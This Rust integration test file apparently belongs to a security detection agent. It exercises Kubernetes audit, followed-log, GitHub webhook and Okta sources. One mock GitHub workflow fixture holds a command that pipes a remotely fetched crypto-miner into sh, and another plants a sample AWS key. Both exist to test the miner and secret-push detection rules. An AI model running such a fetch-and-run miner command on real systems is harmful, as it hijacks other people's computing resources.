//! Live sources: the Kubernetes audit webhook and followed files, against the real agent
//! binary, over real TLS, with the store checked afterwards.

use std::collections::BTreeMap;
use std::io::BufRead;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use serde_json::Value;

/// A running `tripline run` whose output lines are collected.
pub(crate) struct Agent {
    child: Child,
    pub(crate) stdout: Arc<Mutex<Vec<String>>>,
    pub(crate) stderr: Arc<Mutex<Vec<String>>>,
}

impl Agent {
    pub(crate) fn start(args: &[&str]) -> Agent {
        Agent::start_with(args, &[])
    }

    /// Starts `tripline run ARGS` with extra environment variables.
    pub(crate) fn start_with(args: &[&str], env: &[(&str, &str)]) -> Agent {
        let mut child = Command::new(env!("CARGO_BIN_EXE_tripline"))
            .arg("run")
            .args(args)
            .envs(env.iter().copied())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let collect = |r: Box<dyn std::io::Read + Send>| {
            let lines = Arc::new(Mutex::new(Vec::new()));
            let sink = lines.clone();
            std::thread::spawn(move || {
                for l in std::io::BufReader::new(r).lines().map_while(Result::ok) {
                    sink.lock().unwrap().push(l);
                }
            });
            lines
        };
        let stdout = collect(Box::new(child.stdout.take().unwrap()));
        let stderr = collect(Box::new(child.stderr.take().unwrap()));
        Agent {
            child,
            stdout,
            stderr,
        }
    }

    /// Waits for a stderr line containing `text`.
    pub(crate) fn wait_stderr(&mut self, text: &str) -> String {
        let deadline = Instant::now() + Duration::from_secs(60);
        loop {
            if let Some(l) = self
                .stderr
                .lock()
                .unwrap()
                .iter()
                .find(|l| l.contains(text))
            {
                return l.clone();
            }
            if let Ok(Some(status)) = self.child.try_wait() {
                panic!("agent exited ({status}): {:?}", self.stderr.lock().unwrap());
            }
            assert!(
                Instant::now() < deadline,
                "no '{text}' on stderr: {:?}",
                self.stderr.lock().unwrap()
            );
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    /// SIGINT, then the whole stderr once it exited.
    pub(crate) fn stop(mut self) -> String {
        // SAFETY: kill has no memory-safety preconditions.
        unsafe { libc::kill(self.child.id() as i32, libc::SIGINT) };
        let status = self.child.wait().unwrap();
        std::thread::sleep(Duration::from_millis(100));
        let err = self.stderr.lock().unwrap().join("\n");
        assert!(status.success(), "agent failed ({status}): {err}");
        err
    }

    pub(crate) fn kill9(mut self) {
        self.child.kill().unwrap();
        self.child.wait().unwrap();
    }
}

/// The upstream Kubernetes audit fixtures, one event each.
fn fixtures() -> Vec<Value> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../data/falco/tests/k8s_audit/events");
    let mut files: Vec<PathBuf> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    files.sort();
    let mut out = Vec::new();
    for f in files {
        let v: Value = serde_json::from_slice(&std::fs::read(&f).unwrap()).unwrap();
        match v {
            Value::Array(items) => out.extend(items),
            Value::Object(ref m) if m.get("kind").and_then(Value::as_str) == Some("EventList") => {
                out.extend(m["items"].as_array().unwrap().iter().cloned())
            }
            other => out.push(other),
        }
    }
    assert!(out.len() >= 29, "{} fixture events", out.len());
    out
}

/// (rule, output) of each JSON alert line.
fn alerts(lines: &[String]) -> BTreeMap<(String, String), usize> {
    let mut out = BTreeMap::new();
    for l in lines.iter().filter(|l| l.starts_with('{')) {
        let v: Value = serde_json::from_str(l).unwrap();
        *out.entry((
            v["rule"].as_str().unwrap().to_string(),
            v["output"].as_str().unwrap().to_string(),
        ))
        .or_default() += 1;
    }
    out
}

struct Pki {
    dir: tempfile::TempDir,
    ca: rcgen::Certificate,
    client: ureq::tls::ClientCert,
}

impl Pki {
    /// A CA, a server certificate for 127.0.0.1 and a client certificate, as PEM files.
    fn new() -> Pki {
        use rcgen::{BasicConstraints, CertificateParams, IsCa, Issuer, KeyPair};
        let dir = tempfile::tempdir().unwrap();
        let ca_key = KeyPair::generate().unwrap();
        let mut ca_params = CertificateParams::new(Vec::<String>::new()).unwrap();
        ca_params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
        let ca = ca_params.self_signed(&ca_key).unwrap();
        let issuer = Issuer::new(ca_params, ca_key);
        let issue = |name: &str| {
            let key = KeyPair::generate().unwrap();
            let cert = CertificateParams::new(vec![name.to_string()])
                .unwrap()
                .signed_by(&key, &issuer)
                .unwrap();
            (cert, key)
        };
        let (server, server_key) = issue("127.0.0.1");
        let (client, client_key) = issue("kube-apiserver");
        let write = |name: &str, text: String| std::fs::write(dir.path().join(name), text).unwrap();
        write("ca.pem", ca.pem());
        write("server.pem", server.pem());
        write("server.key", server_key.serialize_pem());
        let client = ureq::tls::ClientCert::new_with_certs(
            &[ureq::tls::Certificate::from_pem(client.pem().as_bytes()).unwrap()],
            ureq::tls::PrivateKey::from_pem(client_key.serialize_pem().as_bytes()).unwrap(),
        );
        Pki { dir, ca, client }
    }

    fn path(&self, name: &str) -> String {
        self.dir.path().join(name).display().to_string()
    }

    fn agent(&self, client: Option<ureq::tls::ClientCert>) -> ureq::Agent {
        let tls = ureq::tls::TlsConfig::builder()
            .root_certs(ureq::tls::RootCerts::new_with_certs(&[
                ureq::tls::Certificate::from_der(self.ca.der()).to_owned(),
            ]))
            .client_cert(client)
            .build();
        ureq::Agent::config_builder()
            .tls_config(tls)
            .http_status_as_error(false)
            .timeout_global(Some(Duration::from_secs(60)))
            .build()
            .into()
    }
}

fn event_list(items: &[Value]) -> String {
    serde_json::json!({"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "items": items})
        .to_string()
}

#[test]
fn k8s_audit_webhook_over_mtls_matches_replay_and_pushes_back_when_full() {
    let pki = Pki::new();
    let events = fixtures();
    let dir = tempfile::tempdir().unwrap();
    let expected = alerts_of(&events);
    assert!(expected.len() >= 10, "replay alerts: {expected:?}");

    let token = dir.path().join("token");
    std::fs::write(&token, "s3cret-token\n").unwrap();
    let store = dir.path().join("store.db");
    let mut agent = Agent::start(&[
        "--no-sensor",
        "--no-ui",
        "--source",
        "k8s-audit=webhook",
        "--webhook-listen",
        "127.0.0.1:0",
        "--webhook-tls-cert",
        &pki.path("server.pem"),
        "--webhook-tls-key",
        &pki.path("server.key"),
        "--webhook-client-ca",
        &pki.path("ca.pem"),
        "--webhook-token-file",
        token.to_str().unwrap(),
        "--source-queue",
        "1",
        "--format",
        "json",
        "--store",
        store.to_str().unwrap(),
    ]);
    let line = agent.wait_stderr("Kubernetes audit webhook at https://");
    let url = line.rsplit(' ').next().unwrap().to_string();
    let client = pki.agent(Some(pki.client.clone()));
    let post = |agent: &ureq::Agent, body: &str, token: &str| {
        agent
            .post(&url)
            .header("Authorization", &format!("Bearer {token}"))
            .header("Content-Type", "application/json")
            .send(body)
    };

    // Every fixture, in batches of 5: 200 only once stored; alerts equal replay's.
    for chunk in events.chunks(5) {
        let r = post(&client, &event_list(chunk), "s3cret-token").unwrap();
        assert_eq!(r.status(), 200);
    }
    let live = alerts(&agent.stdout.lock().unwrap());
    assert_eq!(live, expected);

    // No client certificate: the handshake is refused. Wrong token: 401.
    assert!(post(&pki.agent(None), &event_list(&events[..1]), "s3cret-token").is_err());
    let r = post(&client, &event_list(&events[..1]), "wrong").unwrap();
    assert_eq!(r.status(), 401);
    // Not JSON: 400. One bad item among good ones: 400 naming it, the good ones kept.
    let mut r = post(&client, "{not json", "s3cret-token").unwrap();
    assert_eq!(r.status(), 400);
    assert!(r.body_mut().read_to_string().unwrap().contains("not JSON"));
    let mixed = event_list(&[events[0].clone(), serde_json::json!({"kind": "Pod"})]);
    let mut r = post(&client, &mixed, "s3cret-token").unwrap();
    assert_eq!(r.status(), 400);
    let body: Value = serde_json::from_str(&r.body_mut().read_to_string().unwrap()).unwrap();
    assert_eq!(body["accepted"], 1);
    assert_eq!(body["rejected"][0]["item"], 1);

    // A flood beyond the queue (one batch): 429 with Retry-After; retried as the API server
    // does, every event is evaluated exactly once.
    let copies = 12;
    let refused = Arc::new(Mutex::new(0usize));
    std::thread::scope(|s| {
        for _ in 0..copies {
            let (client, refused, post, events) = (&client, &refused, &post, &events);
            s.spawn(move || {
                for chunk in events.chunks(10) {
                    let body = event_list(chunk);
                    loop {
                        let r = post(client, &body, "s3cret-token").unwrap();
                        if r.status() == 200 {
                            break;
                        }
                        assert_eq!(r.status(), 429);
                        assert_eq!(r.headers().get("retry-after").unwrap(), "1");
                        *refused.lock().unwrap() += 1;
                        std::thread::sleep(Duration::from_millis(20));
                    }
                }
            });
        }
    });
    let refused = *refused.lock().unwrap();
    assert!(refused > 0, "the flood was never refused");
    let printed = agent.stdout.clone();
    let err = agent.stop();
    let summary = err
        .lines()
        .find(|l| l.starts_with("Source k8s-audit=webhook:"))
        .unwrap();
    // The fixtures 1 + copies times, and the one good item of the mixed batch.
    let want_events = events.len() * (1 + copies) + 1;
    assert!(
        summary.contains(&format!(": {want_events} events,")),
        "{summary} (want {want_events})"
    );
    assert!(
        summary.contains(&format!("{refused} refused (queue full)")),
        "{summary}"
    );
    assert!(summary.contains("1 unauthorized"), "{summary}");
    let mut want = expected.clone();
    for n in want.values_mut() {
        *n *= 1 + copies;
    }
    for (k, n) in alerts_of(&[events[0].clone()]) {
        *want.entry(k).or_default() += n;
    }
    assert_eq!(alerts(&printed.lock().unwrap()), want);
    // Every alert reached the store: occurrences plus rate-limited ones.
    let mut s = tripline_store::Store::open(store.to_str().unwrap()).unwrap();
    let stored: i64 = s.occurrences_by_level().unwrap().iter().map(|o| o.2).sum();
    let held: i64 = s.suppressed().unwrap().iter().map(|h| h.count).sum();
    assert_eq!((stored + held) as usize, want.values().sum::<usize>());
}

/// Alerts `tripline replay` gives on `events`.
fn alerts_of(events: &[Value]) -> BTreeMap<(String, String), usize> {
    let dir = tempfile::tempdir().unwrap();
    let jsonl = dir.path().join("events.jsonl");
    let text: String = events.iter().map(|e| format!("{e}\n")).collect();
    std::fs::write(&jsonl, text).unwrap();
    let replay = super::tripline(&[
        "replay",
        "--source",
        "k8s_audit",
        "--format",
        "json",
        "--no-store",
        jsonl.to_str().unwrap(),
    ]);
    alerts(
        &String::from_utf8_lossy(&replay.stdout)
            .lines()
            .map(str::to_string)
            .collect::<Vec<_>>(),
    )
}

/// Rows and summed occurrences in a store.
pub(crate) fn stored(store: &Path) -> (i64, i64) {
    let mut s = tripline_store::Store::open(store.to_str().unwrap()).unwrap();
    s.count(&tripline_store::Query::default()).unwrap()
}

pub(crate) fn wait_stored(agent: &Agent, store: &Path, rows: i64) {
    let deadline = Instant::now() + Duration::from_secs(60);
    while stored(store).0 < rows {
        assert!(
            Instant::now() < deadline,
            "stored {:?}, want {rows}: {:?}",
            stored(store),
            agent.stderr.lock().unwrap()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn followed_file_is_read_exactly_once_across_rotation_truncation_and_kill_9() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("kube-audit.log");
    let store = dir.path().join("store.db");
    let rules = dir.path().join("rules.yaml");
    std::fs::write(
        &rules,
        "- rule: Audit event seen\n  desc: every audit event\n  condition: ka.auditid exists\n  output: audit event on %ka.target.name\n  priority: NOTICE\n  source: k8s_audit\n",
    )
    .unwrap();
    let template = fixtures().remove(0);
    let lines = |range: std::ops::Range<usize>| -> String {
        range
            .map(|i| {
                let mut e = template.clone();
                e["auditID"] = format!("line-{i:04}").into();
                // Names differ, so each line is its own finding (audit IDs are volatile).
                e["objectRef"]["name"] = format!("line-{i:04}").into();
                format!("{e}\n")
            })
            .collect()
    };
    let append = |text: &str| {
        let mut f = std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(&log)
            .unwrap();
        std::io::Write::write_all(&mut f, text.as_bytes()).unwrap();
    };
    let source = format!("k8s-audit=file://{}", log.display());
    let args = [
        "--no-sensor",
        "--no-ui",
        "--no-default-rules",
        "--rules",
        rules.to_str().unwrap(),
        "--source",
        &source,
        "--store",
        store.to_str().unwrap(),
        // Every line has the fixture's time: the rate limit (refilled on event time) would
        // hold all but a burst back.
        "--rate-limit",
        "0",
    ];
    append(&lines(0..50));
    let agent = Agent::start(&args);
    wait_stored(&agent, &store, 50);
    append(&lines(50..100));
    wait_stored(&agent, &store, 100);
    // logrotate's default: rename, then a new file.
    std::fs::rename(&log, dir.path().join("kube-audit.log.1")).unwrap();
    append(&lines(100..150));
    wait_stored(&agent, &store, 150);
    // copytruncate: copy, then truncate in place.
    std::fs::copy(&log, dir.path().join("kube-audit.log.2")).unwrap();
    std::fs::OpenOptions::new()
        .write(true)
        .open(&log)
        .unwrap()
        .set_len(0)
        .unwrap();
    append(&lines(150..200));
    wait_stored(&agent, &store, 200);
    // Killed while lines arrive, and the file rotated while the agent is down.
    append(&lines(200..230));
    wait_stored(&agent, &store, 230);
    append(&lines(230..260));
    agent.kill9();
    std::fs::rename(&log, dir.path().join("kube-audit.log.3")).unwrap();
    append(&lines(260..300));
    let agent = Agent::start(&args);
    wait_stored(&agent, &store, 300);
    let err = agent.stop();
    assert!(err.contains("Source k8s-audit=file://"), "{err}");
    assert_eq!(stored(&store), (300, 300), "{err}");
    let mut s = tripline_store::Store::open(store.to_str().unwrap()).unwrap();
    let q = tripline_store::Query {
        limit: 10_000,
        ..Default::default()
    };
    let mut ids: Vec<String> = s
        .query(&q)
        .unwrap()
        .iter()
        .map(|f| f.message.rsplit(' ').next().unwrap().to_string())
        .collect();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), 300);
}

#[test]
fn github_webhook_checks_signatures_and_reads_diffs_and_workflows_from_the_api() {
    use tripline_testkit::{ApiServer, Route};
    let commit = serde_json::json!({
        "sha": "c0ffee",
        "files": [
            {"filename": "README.md", "patch": "@@ -1 +1 @@\n-old\n+new"},
            {"filename": "deploy/app.env", "patch": "@@ -3,2 +3,3 @@\n REGION=us-east-1\n+AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n DEBUG=0"}
        ]
    });
    let api = ApiServer::start(vec![
        // The first call is rate limited, as the API answers when the budget is spent.
        Route::json("GET", "/repos/acme/app/commits/c0ffee", 403, r#"{"message":"API rate limit exceeded"}"#)
            .header("X-RateLimit-Remaining", "0")
            .header("Retry-After", "1")
            .times(1),
        Route::json("GET", "/repos/acme/app/commits/c0ffee", 200, commit.to_string()),
        Route::json(
            "GET",
            "/repos/acme/app/contents/.github/workflows/build.yml",
            200,
            "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sL https://example.invalid/xmrig | sh -s -- -o stratum+tcp://pool:3333\n",
        ),
    ]);
    let dir = tempfile::tempdir().unwrap();
    let secret = dir.path().join("secret");
    std::fs::write(&secret, "hook-secret\n").unwrap();
    let mut agent = Agent::start(&[
        "--no-sensor",
        "--no-ui",
        "--no-store",
        "--source",
        "github=webhook",
        "--webhook-listen",
        "127.0.0.1:0",
        "--github-webhook-secret-file",
        secret.to_str().unwrap(),
        "--github-api-url",
        &api.url(),
        "--format",
        "json",
    ]);
    let line = agent.wait_stderr("GitHub webhook at http://");
    let url = line.rsplit(' ').next().unwrap().to_string();
    let client: ureq::Agent = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .build()
        .into();
    let repo = serde_json::json!({
        "full_name": "acme/app", "html_url": "https://github.com/acme/app", "private": false,
        "owner": {"login": "acme"}
    });
    let deliver = |event: &str, body: &Value, sig: Option<&str>| {
        let text = body.to_string();
        let good = tripline_live::github::signature(b"hook-secret", text.as_bytes());
        let mut req = client
            .post(&url)
            .header("X-GitHub-Event", event)
            .header("Content-Type", "application/json");
        if let Some(s) = sig {
            req = req.header(
                "X-Hub-Signature-256",
                if s == "good" { good.as_str() } else { s },
            );
        }
        req.send(&text).unwrap().status().as_u16()
    };
    let push = serde_json::json!({
        "ref": "refs/heads/main", "repository": repo, "sender": {"login": "mallory"},
        "commits": [{"id": "c0ffee", "modified": ["deploy/app.env"]}]
    });
    assert_eq!(deliver("push", &push, None), 401);
    assert_eq!(deliver("push", &push, Some("sha256=00")), 401);
    assert_eq!(deliver("push", &push, Some("good")), 200);
    let run = serde_json::json!({
        "action": "requested", "repository": repo, "sender": {"login": "mallory"},
        "workflow_run": {"path": ".github/workflows/build.yml", "head_sha": "c0ffee"}
    });
    assert_eq!(deliver("workflow_run", &run, Some("good")), 200);
    let printed = agent.stdout.clone();
    let err = agent.stop();
    let alerts: Vec<Value> = printed
        .lock()
        .unwrap()
        .iter()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    let secret_alert = alerts
        .iter()
        .find(|a| a["rule"] == "Secret pushed into a public repository")
        .unwrap_or_else(|| panic!("no secret alert: {alerts:?} {err}"));
    let fields = &secret_alert["output_fields"];
    assert_eq!(
        fields["github.diff.committed_secrets.desc"],
        "AWS Access Key ID"
    );
    assert_eq!(
        fields["github.diff.committed_secrets.files"],
        "deploy/app.env"
    );
    assert_eq!(fields["github.diff.committed_secrets.lines"], "4");
    assert_eq!(
        fields["github.diff.committed_secrets.links"],
        "https://github.com/acme/app/blob/c0ffee/deploy/app.env#L4"
    );
    let miner = alerts
        .iter()
        .find(|a| a["rule"] == "Github action with miners")
        .unwrap_or_else(|| panic!("no miner alert: {alerts:?} {err}"));
    assert_eq!(
        miner["output_fields"]["github.workflow.filename"],
        ".github/workflows/build.yml"
    );
    assert!(err.contains("2 unauthorized"), "{err}");
    // The rate-limited call was retried.
    let calls = api
        .requests()
        .iter()
        .filter(|r| r.path == "/repos/acme/app/commits/c0ffee")
        .count();
    assert_eq!(calls, 2);
}

#[test]
fn okta_system_log_is_polled_along_the_cursor_and_resumes_there_after_kill_9() {
    use tripline_testkit::{ApiServer, Route};
    let event = |n: u32| {
        serde_json::json!({
            "uuid": format!("evt-{n}"), "eventType": "user.session.start",
            "published": format!("2026-12-06T07:00:0{n}.000Z"),
            "actor": {"id": format!("u{n}"), "displayName": format!("user-{n}"), "type": "User"},
            "outcome": {"result": "SUCCESS"}, "displayMessage": "User login to Okta"
        })
    };
    let pages = [
        (vec![event(1), event(2)], "c1"),
        (vec![event(3), event(4)], "c2"),
        (vec![event(5)], "c3"),
    ];
    // `{url}` is the server's own address.
    let link =
        |cursor: &str| format!("<{{url}}/api/v1/logs?after={cursor}&limit=1000>; rel=\"next\"");
    let reset = (std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
        + 1)
    .to_string();
    let mut routes = vec![Route::json("GET", "/api/v1/logs", 429, "[]")
        .header("X-Rate-Limit-Remaining", "0")
        .header("X-Rate-Limit-Reset", &reset)
        .times(1)];
    for (events, cursor) in &pages {
        routes.push(
            Route::json(
                "GET",
                "/api/v1/logs",
                200,
                Value::from(events.clone()).to_string(),
            )
            .header("Link", &link(cursor))
            .times(1),
        );
    }
    routes.push(Route::json("GET", "/api/v1/logs", 200, "[]").header("Link", &link("c3")));
    let api = ApiServer::start(routes);
    let base = api.url();

    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store.db");
    let rules = dir.path().join("okta.yaml");
    std::fs::write(
        &rules,
        "- rule: Okta session\n  desc: every session start\n  condition: okta.evt.type = user.session.start\n  output: session of %okta.actor.name\n  priority: NOTICE\n  source: okta\n",
    )
    .unwrap();
    let args = [
        "--no-sensor",
        "--no-ui",
        "--no-default-rules",
        "--rules",
        rules.to_str().unwrap(),
        "--source",
        "okta=okta://dev-1.okta.com",
        "--okta-api-url",
        &base,
        "--okta-token",
        "00secret",
        "--poll-interval",
        "1",
        "--store",
        store.to_str().unwrap(),
        "--rate-limit",
        "0",
    ];
    let agent = Agent::start(&args);
    wait_stored(&agent, &store, 5);
    agent.kill9();
    let before = api.requests().len();
    let agent = Agent::start(&args);
    let deadline = Instant::now() + Duration::from_secs(30);
    while api.requests().len() == before {
        assert!(Instant::now() < deadline, "no request after the restart");
        std::thread::sleep(Duration::from_millis(50));
    }
    let err = agent.stop();
    let requests = api.requests();
    assert!(requests.iter().all(|r| r.authorization == "SSWS 00secret"));
    assert!(requests[0].query.starts_with("since="), "{:?}", requests[0]);
    // The first start walked the pages along the cursor (after the rate-limited call).
    let queries: Vec<&str> = requests[..before]
        .iter()
        .map(|r| r.query.as_str())
        .collect();
    assert_eq!(
        &queries[2..5],
        [
            "after=c1&limit=1000",
            "after=c2&limit=1000",
            "after=c3&limit=1000"
        ]
    );
    // The restart resumed at the saved cursor and evaluated nothing again.
    assert_eq!(requests[before].query, "after=c3&limit=1000");
    assert!(
        err.contains("Source okta=okta://dev-1.okta.com: 0 events"),
        "{err}"
    );
    assert_eq!(stored(&store), (5, 5));
}
